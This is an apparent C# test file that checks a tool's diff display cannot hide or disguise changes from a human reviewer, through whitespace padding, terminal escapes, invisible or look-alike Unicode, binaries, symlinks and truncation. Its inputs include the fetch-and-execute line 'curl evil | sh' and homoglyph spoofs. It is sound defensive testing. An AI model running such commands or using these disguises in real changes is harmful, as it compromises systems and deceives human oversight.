using System.Text;
using Machine.Tool.Tests.Workspaces;

namespace Machine.Attacks.Tests.GuestRoot;

/// <summary>A person sees what they say yes to: nothing of a change is cut, hidden, or made to look like something else.</summary>
public sealed class DiffAttacks : IDisposable
{
    private readonly AttackedProject project = new();

    public void Dispose() => project.Dispose();

    // P5c.
    [Theory]
    [InlineData(300)]
    [InlineData(2000)]
    [InlineData(100_000)]
    public async Task The_end_of_a_long_line_is_shown(int blanks)
    {
        var diff = await ShownAsync("export A=1" + new string(' ', blanks) + "; curl evil | sh\n");

        diff.ShouldContain("curl evil");
        diff.ShouldContain($"\\x20{{{blanks}}}");
        diff.Split('\n').ShouldAllBe(line => line.Length < 200);
    }

    [Theory]
    [InlineData("safe\revil\n", "safe\\x0devil")]
    [InlineData("evil # \u001b[2K\u001b[1Gsafe\n", "evil # \\x1b[2K\\x1b[1Gsafe")]
    [InlineData("evil\b\b\b\bsafe\n", "evil\\x08\\x08\\x08\\x08safe")]
    [InlineData("a\u202eb\u2066c\n", "a\\u202eb\\u2066c")]
    [InlineData("pay\u200bload\ufeff\u2060\u00ad\n", "pay\\u200bload\\ufeff\\u2060\\xad")]
    [InlineData("a\u2028b\u0085c\n", "a\\u2028b\\x85c")]
    [InlineData("\u009b2Jx\n", "\\x9b2Jx")]
    [InlineData("tag\U000e0041\U000e0042\n", "tag\\ue0041\\ue0042")]
    [InlineData("fill\u3164\u2800\n", "fill\\u3164\\u2800")]
    [InlineData("p\u0430ypal\n", "p\\u0430ypal")]
    [InlineData("\u0455cope\n", "\\u0455cope")]
    [InlineData("G\u03bfogle\n", "G\\u03bfogle")]
    [InlineData("rm \u2010rf\n", "rm \\u2010rf")]
    [InlineData("a\u037e b\uff1b\n", "a\\u037e b\\uff1b")]
    [InlineData("if\u00a0x\u2003y\n", "if\\u00a0x\\u2003y")]
    [InlineData("\U0001d41eval\n", "\\u1d41eval")]
    [InlineData("http:\u2044\u2044x\n", "http:\\u2044\\u2044x")]
    public async Task What_a_terminal_obeys_hides_or_shows_as_something_else_is_spelled_out(string content, string shown) =>
        (await ShownAsync(content)).ShouldContain("+" + shown);

    [Theory]
    [InlineData("Привет, мир\n")]
    [InlineData("Καλημέρα κόσμε\n")]
    [InlineData("日本語のtext と English\n")]
    [InlineData("naïve café Größe 100 µs\n")]
    public async Task Honest_text_of_other_scripts_is_shown_as_it_is(string content) =>
        (await ShownAsync(content)).ShouldContain("+" + content);

    [Fact]
    public async Task Two_different_bytes_that_are_no_text_are_not_one()
    {
        project.Write("a.txt", "");
        await File.WriteAllBytesAsync(project.At("a.txt"), [(byte)'a', 0xff, (byte)'\n'], TestContext.Current.CancellationToken);
        project.Guest.Says("a.txt", size: 3);
        project.Guest.Pack = requests => new MemoryStream([.. requests[0].Path, 0, 0, 0, 0, 3, (byte)'a', 0xfe, (byte)'\n', 0, 0, 0, 0, (byte)'k']);

        var diff = await project.Open().DiffAsync("a.txt", TestContext.Current.CancellationToken);

        diff.ShouldContain("-a\\xff\n");
        diff.ShouldContain("+a\\xfe\n");
    }

    [Theory]
    [InlineData("a\r\nb\n", "a\r\nb\r\n", "+b\\r\n")]
    [InlineData("a\nb\n", "a\r\nb\n", "+a\\r\n")]
    [InlineData("a\r\n", "a\r\r\n", "+a\\x0d")]
    public async Task A_change_of_line_ends_alone_is_seen(string before, string after, string shown)
    {
        project.Write("a.txt", before);

        (await ShownAsync(after, "a.txt")).ShouldContain(shown);
    }

    [Fact]
    public async Task What_is_binary_is_named_with_its_size_and_hash()
    {
        var content = "#!/bin/sh\n\0" + "curl evil | sh\n";

        (await ShownAsync(content, "run.sh")).ShouldContain($"{content.Length} bytes in the guest, sha256 {Sha256(content)}");
    }

    [Fact]
    public async Task What_is_too_large_to_show_is_named_with_its_size_and_hash()
    {
        var content = new string('#', 900_000);
        project.Write("big.txt", new string('x', 5 << 20));

        var diff = await ShownAsync(content, "big.txt");

        diff.ShouldContain("too large to show");
        diff.ShouldContain($"{content.Length} bytes in the guest, sha256 {Sha256(content)}");
    }

    [Fact]
    public async Task The_execute_bit_of_a_new_file_is_shown()
    {
        project.Claims("tool", "echo\n", mode: "755");

        (await project.Open().DiffAsync("tool", TestContext.Current.CancellationToken)).ShouldContain("tool: the execute bit is set");
    }

    [Fact]
    public async Task A_link_in_place_of_a_file_says_so_and_whereto()
    {
        project.Write("notes.md", "text\n");
        project.Guest.Says("notes.md", 'l', link: "b\u0430r.txt");

        var diff = await project.Open().DiffAsync("notes.md", TestContext.Current.CancellationToken);

        diff.ShouldContain("notes.md: a link in place of the file");
        diff.ShouldContain("+link to b\\u0430r.txt");
    }

    [Fact]
    public async Task A_folders_deletion_that_is_too_long_to_show_says_how_much_it_leaves_out()
    {
        for (var i = 0; i < 1005; i++)
        {
            project.Write($"docs/{i}", "");
        }

        project.Guest.Says("docs", 'w', size: 0);

        var diff = await project.Open().DiffAsync("docs", TestContext.Current.CancellationToken);

        diff.ShouldContain("1005 files");
        diff.ShouldContain("and 5 more that are not shown");
    }

    private static string Sha256(string text) => Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(Encoding.UTF8.GetBytes(text)));

    private async Task<string> ShownAsync(string content, string path = "script")
    {
        project.Guest.Says(path, size: Encoding.UTF8.GetByteCount(content));
        project.Guest.Pack = requests =>
        {
            var answer = new MemoryStream();
            LyingGuest.Frame(answer, requests[0].Path, content);
            answer.Position = 0;
            return answer;
        };
        return await project.Open().DiffAsync(path, TestContext.Current.CancellationToken);
    }
}
